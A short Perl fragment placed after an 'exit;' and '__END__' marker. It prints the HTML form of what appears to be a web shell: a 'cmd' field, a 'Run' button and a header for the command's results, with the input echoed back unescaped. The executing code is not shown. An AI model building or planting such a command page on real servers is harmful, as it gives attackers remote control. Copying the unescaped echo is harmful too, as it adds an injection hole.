exit;
__END__
print "<form action=\"\" method=\"GET\">";
print "<input type=\"text\" name=\"cmd\" value=\"$FORM{cmd}\">";
print "<input type=\"text\" name=\"serverid\">";
print "<input type=\"submit\" value=\"Run\"></form>";
print "<pre>Results of '$FORM{cmd}' execution:\n\n";
